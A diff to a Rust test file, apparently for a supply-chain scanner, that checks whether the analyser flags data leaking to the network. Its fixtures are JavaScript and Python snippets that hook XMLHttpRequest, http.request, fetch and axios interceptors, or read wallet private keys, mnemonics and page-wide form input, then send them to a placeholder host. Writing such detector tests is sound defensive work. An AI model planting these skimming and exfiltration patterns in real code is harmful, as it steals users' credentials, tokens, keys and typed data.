@@ -2,7 +2,7 @@
 
 use crate::flow::testing::{found, script, wheel};
 use crate::unpack::Entry;
-use customs_model::{SinkKind, SourceKind, Zone};
+use customs_model::{SinkKind, SourceKind, Target, Zone};
 
 fn takes(entries: Vec<Entry>) -> bool {
     let mut flows = found(entries).flows.into_iter();
@@ -10,6 +10,8 @@ fn takes(entries: Vec<Entry>) -> bool {
         flow.source == SourceKind::Intercepted
             && flow.sink == SinkKind::Network
             && flow.zone > Zone::Never
+            // What stands in for a function hands on what it was given, to where that says.
+            && flow.target != Target::Caller
     })
 }
 
@@ -60,9 +62,80 @@ fn what_is_put_into_each_request_goes_where_the_client_was_made_for() {
         flows.any(|flow| {
             flow.source == SourceKind::Environment
                 && flow.sink == SinkKind::Network
-                && flow.target == customs_model::Target::Constant("a.invalid".to_owned())
+                && flow.target == Target::Constant("a.invalid".to_owned())
         })
     };
     assert!(puts("JSON.stringify(process.env)"));
     assert!(!puts("process.version"));
+}
+
+#[test]
+fn what_others_send_is_not_copied_by_a_function_that_stands_in_for_theirs() {
+    let page = |sent: &str| {
+        script(&format!(
+            "const send = XMLHttpRequest.prototype.send;\nXMLHttpRequest.prototype.send = function (body) {{\n  fetch('https://a.invalid/', {{ method: 'POST', body: {sent} }});\n  return send.call(this, body);\n}};"
+        ))
+    };
+    assert!(takes(page("body")));
+    assert!(!takes(page("'1'")));
+    let server = |header: &str| {
+        script(&format!(
+            "const http = require('http'); const real = http.request;\nhttp.request = function (...args) {{ const r = real.apply(this, args); fetch('https://a.invalid/?' + r.getHeader('{header}')); return r; }};"
+        ))
+    };
+    assert!(takes(server("authorization")));
+    assert!(!takes(server("accept")));
+    let fetched = |part: &str| {
+        script(&format!(
+            "const real = globalThis.fetch; globalThis.fetch = function (url, how) {{ real('https://a.invalid/?' + how.{part}); return real(url, how); }};"
+        ))
+    };
+    assert!(takes(fetched("headers.a")));
+    // How requests are measured.
+    assert!(!takes(fetched("method")));
+}
+
+#[test]
+fn answers_that_a_client_of_the_caller_gets_are_not_sent_elsewhere() {
+    let answer = |part: &str, on: &str| {
+        script(&format!(
+            "const axios = require('axios'); exports.attach = (client) => {{ const own = axios.create({{ baseURL: 'https://b.invalid' }}); {on}.interceptors.response.use((r) => {{ fetch('https://a.invalid/?' + r.{part}); return r; }}); }};"
+        ))
+    };
+    assert!(takes(answer("data.token", "client")));
+    assert!(!takes(answer("status", "client")));
+    assert!(!takes(answer("data.token", "own")));
+}
+
+#[test]
+fn the_key_of_a_wallet_is_one_by_the_name_of_its_parameter() {
+    let signs = |name: &str| {
+        script(&format!(
+            "exports.sign = (text, {name}) => {{ fetch('https://a.invalid/?' + {name}); }};"
+        ))
+    };
+    assert!(takes(signs("privateKey")));
+    assert!(takes(signs("mnemonic")));
+    assert!(!takes(signs("publicKey")));
+    let record = |name: &str| {
+        wheel(&format!(
+            "import dataclasses, requests\n@dataclasses.dataclass\nclass Wallet:\n    {name}: str\n    def __post_init__(self):\n        requests.get('https://a.invalid/', params={{'w': self.{name}}})\n"
+        ))
+    };
+    assert!(takes(record("mnemonic")));
+    assert!(!takes(record("address")));
+}
+
+#[test]
+fn what_is_filled_in_anywhere_in_a_page_is_its_users() {
+    let told = |on: &str, part: &str| {
+        let code = format!(
+            "{on}.addEventListener('change', (e) => {{ fetch('https://a.invalid/?' + e.target.{part}); }});"
+        );
+        let mut flows = found(script(&code)).flows.into_iter();
+        flows.any(|flow| flow.source == SourceKind::InputDevice && flow.sink == SinkKind::Network)
+    };
+    assert!(told("document", "value"));
+    assert!(!told("document", "name"));
+    assert!(!told("field", "value"));
 }
